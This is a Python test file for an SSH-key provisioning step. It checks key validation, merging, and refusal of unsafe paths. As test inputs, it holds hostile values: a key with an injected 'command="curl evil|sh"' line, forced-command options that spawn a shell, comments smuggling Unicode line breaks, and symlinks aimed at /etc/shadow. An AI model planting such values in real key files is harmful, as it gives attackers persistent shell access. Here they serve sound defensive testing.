"""SSH keys step: key validation, where keys go, merging, and refusing unsafe paths."""

from __future__ import annotations

import base64
import os
import re
import stat
import struct
import subprocess
from typing import Tuple

import pytest
from hypothesis import example, given, strategies as st

from azprov import errors
from azprov.errors import InvalidMetadata
from azprov.host import Host
from azprov.imds import PublicKey
from azprov.steps import ssh_keys
from support.cli import requires_root
from support.fakes import ED25519, metadata
from support.scratch_root import make_scratch_root
from support.strategies import ANY_TEXT, characters, fuzz, mutated, utf8

UID = 1500


def key(key_type: str, comment: str = "me@laptop", payload: bytes = b"\x00" * 40) -> str:
    name = key_type.encode()
    blob = struct.pack(">I", len(name)) + name + payload
    return f"{key_type} {base64.b64encode(blob).decode()} {comment}".strip()


@pytest.fixture
def root(tmp_path):
    return make_scratch_root(str(tmp_path / "root"), users=[("azureuser", UID)])


@pytest.mark.parametrize("key_type", sorted(ssh_keys.KEY_TYPES))
def test_every_openssh_key_type_is_accepted(key_type):
    assert ssh_keys.parse_key(key(key_type))[0] == key_type


def test_trailing_cr_lf_is_stripped_and_the_comment_kept():
    parsed = ssh_keys.parse_key(ED25519 + "\r\n")
    assert parsed[0] == "ssh-ed25519" and parsed[2] == "azureuser@azprov-demo"
    assert ssh_keys.parse_key(key("ssh-rsa", comment=""))[2] == ""


@pytest.mark.parametrize("data, message", [
    (ED25519 + "\ncommand=\"curl evil|sh\" " + ED25519, "line break"),
    (ED25519 + "\r" + ED25519, "line break"),
    ('command="/bin/sh" ' + ED25519, "options"),
    ("no-pty,from=\"*\" " + ED25519, "options"),
    ("ssh-foo AAAA", "unknown key type"),
    ("ssh-ed25519", "no key data"),
    ("ssh-ed25519 not*base64", "not valid base64"),
    ("ssh-ed25519 " + base64.b64encode(b"\x00\x00").decode(), "truncated"),
    (key("ssh-rsa").replace("ssh-rsa ", "ssh-ed25519 ", 1), "not a ssh-ed25519 key"),
    ("ssh-rsa " + "A" * (17 * 1024), "over"),
    ("", "empty"),
    ("ssh-ed25519 AAAA\x00", "control characters"),
])
def test_hostile_keys_are_refused(data, message):
    with pytest.raises(errors.InvalidKey, match=message) as caught:
        ssh_keys.parse_key(data)
    assert caught.value.reason == "invalid_ssh_key"


def test_too_many_keys_are_refused():
    with pytest.raises(errors.InvalidKey, match="1001 SSH keys"):
        ssh_keys.validate([PublicKey(ED25519)] * 1001)


def test_merge_keeps_existing_lines_and_adds_no_duplicates():
    existing = 'from="10.0.0.0/8" ' + ED25519 + "\n" + key("ssh-rsa") + "\n"
    merged = ssh_keys.merge(existing, [ssh_keys.parse_key(ED25519), ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))])
    lines = merged.splitlines()
    assert lines[:2] == existing.splitlines()
    assert len(lines) == 3 and lines[2].startswith("ecdsa-sha2-nistp256 ")
    assert ssh_keys.merge(merged, [ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))]) == merged


def test_the_path_follows_authorized_keys_file(root):
    host = Host(root)
    alice = host.user("azureuser")
    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
        "AuthorizedKeysFile %h/.ssh/keys_%u .ssh/authorized_keys2\n")
    targets = ssh_keys.target_files(host, alice, [PublicKey(ED25519, "")])
    assert list(targets) == ["/home/azureuser/.ssh/keys_azureuser"]


def test_an_imds_path_is_honoured_only_inside_the_home(root, caplog):
    host = Host(root)
    alice = host.user("azureuser")
    keys = [PublicKey(ED25519, "/home/azureuser/.ssh/authorized_keys"),
            PublicKey(key("ssh-rsa"), "/home/azureuser/.ssh/other_keys"),
            PublicKey(key("ssh-dss"), "/root/.ssh/authorized_keys"),
            PublicKey(key("ecdsa-sha2-nistp256"), "/home/azureuser/../root/.ssh/authorized_keys")]
    targets = ssh_keys.target_files(host, alice, keys)
    assert targets == {"/home/azureuser/.ssh/authorized_keys": [0, 2, 3],
                       "/home/azureuser/.ssh/other_keys": [1]}
    assert "outside azureuser's home" in caplog.text


def test_authorized_keys_file_none_fails(root):
    host = Host(root)
    open(os.path.join(root, "etc/ssh/sshd_config.d/01.conf"), "w").write("AuthorizedKeysFile none\n")
    with pytest.raises(errors.StepFailed, match="none"):
        ssh_keys.target_files(host, host.user("azureuser"), [PublicKey(ED25519)])


def test_keys_for_a_system_account_are_refused(root, config):
    with pytest.raises(errors.InvalidMetadata):
        ssh_keys.check(Host(root), metadata(admin_username="root"), config.provisioning)


@requires_root
def test_keys_are_installed_with_owner_and_modes(root, config):
    host = Host(root)
    real = subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(root, "tmp", "k")],
                          capture_output=True)
    assert real.returncode == 0
    real_key = open(os.path.join(root, "tmp", "k.pub")).read()
    md = metadata(keys=[real_key + "\r\n", key("ssh-rsa")])
    assert ssh_keys.apply(host, md, config.provisioning) is True
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    keys_file = os.path.join(ssh_dir, "authorized_keys")
    for path, mode in ((ssh_dir, 0o700), (keys_file, 0o600)):
        info = os.lstat(path)
        assert (stat.S_IMODE(info.st_mode), info.st_uid, info.st_gid) == (mode, UID, UID)
    lines = open(keys_file).read().splitlines()
    assert lines[0] == real_key.strip() and len(lines) == 2
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", keys_file], capture_output=True, text=True)
    assert fingerprint.returncode == 0 and "ED25519" in fingerprint.stdout
    assert ssh_keys.apply(host, md, config.provisioning) is False


@requires_root
def test_a_loose_ssh_directory_is_tightened(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o755)
    os.chown(ssh_dir, UID, UID)
    assert ssh_keys.apply(Host(root), metadata(), config.provisioning) is True
    assert stat.S_IMODE(os.stat(ssh_dir).st_mode) == 0o700


@requires_root
def test_a_symlinked_ssh_directory_fails_and_its_target_is_untouched(root, config):
    target = os.path.join(root, "root/.ssh")
    os.mkdir(target, 0o700)
    open(os.path.join(target, "authorized_keys"), "w").write("root's key\n")
    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
    with pytest.raises(errors.UnsafePath, match="symbolic link"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)
    assert os.listdir(target) == ["authorized_keys"]
    assert open(os.path.join(target, "authorized_keys")).read() == "root's key\n"


@requires_root
def test_a_symlinked_authorized_keys_file_fails(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o700)
    os.chown(ssh_dir, UID, UID)
    os.symlink("/etc/shadow", os.path.join(ssh_dir, "authorized_keys"))
    shadow = open(os.path.join(root, "etc/shadow")).read()
    with pytest.raises(errors.UnsafePath):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)
    assert open(os.path.join(root, "etc/shadow")).read() == shadow


@requires_root
def test_a_home_owned_by_someone_else_fails(root, config):
    os.chown(os.path.join(root, "home/azureuser"), 4242, 4242)
    with pytest.raises(errors.UnsafePath, match="owned by uid 4242"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)


@requires_root
def test_a_world_writable_home_fails_as_sshd_would(root, config):
    os.chmod(os.path.join(root, "home/azureuser"), 0o777)
    with pytest.raises(errors.UnsafePath, match="writable"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)


def test_a_missing_user_fails(tmp_path, config):
    root = make_scratch_root(str(tmp_path / "r"))
    with pytest.raises(errors.StepFailed, match="does not exist"):
        ssh_keys.apply(Host(root), metadata(admin_username="ghost"), config.provisioning)


@requires_root
def test_check_refuses_a_symlinked_ssh_directory_before_anything_changes(root, config):
    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
    with pytest.raises(errors.UnsafePath, match="symbolic link"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)


@requires_root
def test_check_refuses_a_symlinked_key_file(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o700)
    os.symlink("/etc/shadow", os.path.join(ssh_dir, "authorized_keys"))
    with pytest.raises(errors.UnsafePath, match="not a regular file"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)


def test_check_passes_for_a_user_still_to_be_created(tmp_path, config):
    root = make_scratch_root(str(tmp_path / "r"))
    ssh_keys.check(Host(root), metadata(admin_username="newuser"), config.provisioning)


# --------------------------------------------------------------------------------------------
# properties (hypothesis): strategies and conventions in support/strategies.py


SSH_KEY_TYPES = sorted([
    "ssh-rsa", "ssh-dss", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521", "sk-ssh-ed25519@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com",
    "ssh-ed25519-cert-v01@openssh.com",
])

BASE64_BLOB = re.compile(r"[A-Za-z0-9+/]+={0,2}")

# Comments: anything printable on one line, as ssh-keygen -C allows.
COMMENT_TEXT = st.text(
    alphabet=characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")), max_size=40
)


@st.composite
def ssh_keys_lines(draw, comments=COMMENT_TEXT) -> Tuple[str, Tuple[str, str, str]]:
    key_type = draw(st.sampled_from(SSH_KEY_TYPES))
    name = key_type.encode()
    blob = base64.b64encode(struct.pack(">I", len(name)) + name + draw(st.binary(max_size=80))).decode()
    comment = draw(comments)
    space = draw(st.sampled_from([" ", "  ", "\t", " \t"]))
    indent = draw(st.sampled_from(["", " ", "\t"]))
    line = f"{indent}{key_type}{space}{blob}"
    if comment.strip():
        line += f"{space}{comment}"
    line += draw(st.sampled_from(["", "\n", "\r\n", "\r\n\r\n", " "]))
    return line, (key_type, blob, comment.strip() if comment.strip() else "")


def check_ssh_key(key_data: str):
    try:
        parsed = ssh_keys.parse_key(key_data)
    except InvalidMetadata:
        return None
    key_type, blob, comment = parsed
    assert key_type in ssh_keys.KEY_TYPES  # the first field: never an option
    assert BASE64_BLOB.fullmatch(blob)
    raw = base64.b64decode(blob)
    (length,) = struct.unpack(">I", raw[:4])
    assert raw[4:4 + length] == key_type.encode()
    line = " ".join(part for part in parsed if part)
    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f]", line)
    return parsed


SSH_FRAGMENTS = [b"\n", b"\r", b"\x00", b"command=\"sh\" ", b"no-pty,", b"restrict ", b"=", b"\xe2\x80\xa8",
                 b"\xc2\x85", b"ssh-ed25519 ", b" ", b"\t", b"AAAA"]


@fuzz(300)
@example("")
@example('command="/bin/sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==')
@example("no-pty,from=\"*\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB")
@given(st.one_of(
    ANY_TEXT,
    st.text(max_size=300),
    ssh_keys_lines().flatmap(lambda pair: mutated(utf8(pair[0]), SSH_FRAGMENTS)).map(
        lambda b: b.decode("utf-8", "replace")
    ),
).filter(lambda s: not any(c in s for c in "\x85\u2028\u2029")))  # see the xfail test below
def test_ssh_key_validator_accepts_only_single_plain_keys(key_data):
    check_ssh_key(key_data)


@fuzz(300)
@given(ssh_keys_lines())
def test_ssh_key_validator_round_trips_valid_keys(pair):
    line, expected = pair
    assert check_ssh_key(line) == expected


@fuzz(100)
@given(st.sampled_from(['command="sh" ', "no-pty ", 'from="*",no-agent-forwarding ', "restrict ",
                        "cert-authority ", 'environment="A=B" ']), ssh_keys_lines())
def test_ssh_key_validator_refuses_options(options, pair):
    with pytest.raises(InvalidMetadata):
        ssh_keys.parse_key(options + pair[0])


@fuzz(200)
@given(st.text(max_size=300), st.lists(ssh_keys_lines(), max_size=4))
def test_ssh_key_merge_is_idempotent_and_keeps_every_key(existing, lines):
    keys = [check_ssh_key(line) for line, _ in lines]
    once = ssh_keys.merge(existing, keys)
    assert ssh_keys.merge(once, keys) == once
    file_lines = once.splitlines()
    for key_type, blob, _ in keys:
        assert any(line.split()[:2] == [key_type, blob] for line in file_lines)


@fuzz(50)
@example(
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr "
    'me\u2028command="sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr'
)
@given(ssh_keys_lines(comments=st.tuples(COMMENT_TEXT, st.sampled_from(["\u2028", "\u2029", "\x85"]),
                                         COMMENT_TEXT).map("".join)).map(lambda pair: pair[0]))
def test_ssh_key_comment_never_holds_a_line_break(key_data):
    parsed = check_ssh_key(key_data)
    if parsed is not None:
        once = ssh_keys.merge("", [parsed])
        assert len(once.splitlines()) == 1
        assert ssh_keys.merge(once, [parsed]) == once
